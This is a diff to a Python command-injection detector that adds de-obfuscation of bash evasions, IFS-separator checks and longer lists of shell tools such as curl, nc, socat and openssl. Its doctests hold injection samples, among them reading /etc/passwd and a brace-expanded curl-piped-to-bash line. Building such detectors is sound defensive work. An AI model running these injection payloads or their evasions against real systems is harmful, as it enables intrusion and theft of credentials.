@@ -4,7 +4,8 @@ A command word alone is not enough (prose says "cat", "ping" and "echo"): it
 must come after a shell separator or inside ``$(...)``/backticks, and its
 arguments must look like a command line's (a path for ``cat``, a host for
 ``wget``, a number for ``sleep``...). Evasions are undone first
-(:func:`~citywatch.detect.portal.normalise.shell_normalise`).
+(:func:`~citywatch.detect.portal.normalise.shell_normalise`, and :func:`_unshell` for
+ANSI-C quoting, empty substitutions and brace expansion).
 
 >>> cmdi("127.0.0.1; cat /etc/passwd")
 ('cmdi.command', '; cat /etc/passwd')
@@ -29,7 +30,7 @@ _CMD_START = re.compile(
 )
 _NO_ARGS = word_set(
     "id whoami uname pwd ifconfig ipconfig hostname ps env printenv systeminfo ls dir "
-    "netstat lsb_release"
+    "netstat lsb_release ver tasklist reboot halt poweroff"
 )
 _PATH_ARGS = word_set(
     "cat head tail more less type nl tac od xxd strings base64 rm cp mv chmod chown touch tee "
@@ -37,13 +38,24 @@ _PATH_ARGS = word_set(
 )
 _HOST_ARGS = word_set(
     "wget curl fetch tftp ftp certutil bitsadmin nc ncat netcat telnet socat nslookup dig host "
-    "ping traceroute ssh scp"
+    "ping traceroute ssh scp openssl"
 )
 _CODE_ARGS = word_set("python python2 python3 perl ruby php node lua powershell pwsh cmd bash sh")
 _ANY_ARGS = word_set(
     "echo printf mkfifo crontab useradd chpasswd busybox eval timeout sleep rev xargs"
 )
 _COMMENT = re.compile(r"\s#.*+$")
+_PATH_WITHIN = 3
+"""Arguments read for a path: ``tar czf /tmp/x /etc`` names one early, a complaint's
+"cat stuck on tree near /home/street" only after words."""
+_DATABASES = word_set("passwd shadow group hosts ahosts gshadow")
+"""What ``getent`` reads that an attacker wants (the accounts without reading a file)."""
+_ANSI_C = re.compile(r"\$'((?:[^'\\]|\\.){0,200}+)'")
+_ANSI_ESCAPE = re.compile(r"\\(?:x([0-9a-f]{1,2})|u([0-9a-f]{1,4})|([0-7]{1,3})|(.))")
+_EMPTY_SUBSTITUTION = re.compile(r"\$\(\s*+\)|``")
+_BRACES = re.compile(r"(?<!\$)\{([^{}\s,]{0,60}+(?:,[^{}\s,]{0,60}+){1,8}+)\}")
+_IFS_SET = re.compile(r"(?:^|[;&|\n`(])[ \t]{0,32}+ifs=")
+"""Setting the field separator: the commas of ``IFS=,;`cat<<<uname,-a``` become spaces."""
 _BARE = ("-", ">", "2>", "</", "<.", "<~")
 """How arguments that are options or redirections begin (``<3`` is a heart, not one)."""
 _SPELT = re.compile(
@@ -91,7 +103,10 @@ def cmdi(text: str) -> Found | None:
         match = _CODE_EXEC.search(text) or _RUNTIME_EXEC.search(text)
         if match is not None:
             return "cmdi.code", text[match.start() : match.start() + 60]
-    shell = shell_normalise(text)
+    shell = shell_normalise(_unshell(text))
+    ifs = _IFS_SET.search(shell)
+    if ifs is not None:
+        return "cmdi.command", shell[ifs.start() : ifs.start() + 60].strip()
     for count, sub in enumerate(_SUBSTITUTION.finditer(shell)):
         if _is_command(sub.group("cmd"), sub.group("args")):
             return "cmdi.substitution", sub.group()
@@ -108,6 +123,30 @@ def cmdi(text: str) -> Found | None:
     return None
 
 
+def _unshell(text: str) -> str:
+    """Undo the evasions that hide a command's name in bash syntax: ANSI-C quoting
+    (``$'\\x77\\x68\\x6f'``), empty substitutions splitting it (``who$()ami``,
+    ``who``ami``) and brace expansion (``{curl,x.example/s.sh}``).
+
+    >>> _unshell("1;{curl,x.example/s}|{bash,};who$()ami;$'\\x69\\x64'")
+    '1;curl x.example/s|bash ;whoami;id'
+    """
+    if "$'" in text:
+        text = _ANSI_C.sub(lambda m: _ANSI_ESCAPE.sub(_escaped, m.group(1)), text)
+    if "$(" in text or "``" in text:
+        text = _EMPTY_SUBSTITUTION.sub("", text)
+    if "{" in text and "," in text:
+        text = _BRACES.sub(lambda m: m.group(1).replace(",", " "), text)
+    return text
+
+
+def _escaped(match: re.Match[str]) -> str:
+    hexa, uni, octal, other = match.groups()
+    if other is not None:
+        return other
+    return chr(int(hexa, 16) if hexa else int(uni, 16) if uni else int(octal, 8)).lower()
+
+
 def _is_command(cmd: str, args: str, *, start: bool = False) -> bool:
     """Whether ``cmd args`` reads as a real command line rather than prose.
 
@@ -121,7 +160,9 @@ def _is_command(cmd: str, args: str, *, start: bool = False) -> bool:
     bare = not args.strip() or args.lstrip().startswith(_BARE)  # id>out, id </dev/null
     if cmd in _NO_ARGS and bare and not start:
         return True
-    if cmd in _PATH_ARGS and _PATHISH.search(args):
+    if cmd in _PATH_ARGS and _PATHISH.search(
+        " ".join(args.split(None, _PATH_WITHIN)[:_PATH_WITHIN])
+    ):
         return True
     if cmd in _HOST_ARGS and _HOSTISH.search(args):
         return True
@@ -133,4 +174,7 @@ def _is_command(cmd: str, args: str, *, start: bool = False) -> bool:
         return True
     if cmd in _ANY_ARGS and cmd not in ("sleep", "timeout") and _NOT_PROSE.search(args):
         return True
+    if cmd == "getent":
+        first = args.split(None, 1)
+        return bool(first) and first[0] in _DATABASES
     return cmd == "net" and args.lstrip().startswith(("user", "localgroup", "view", "share"))
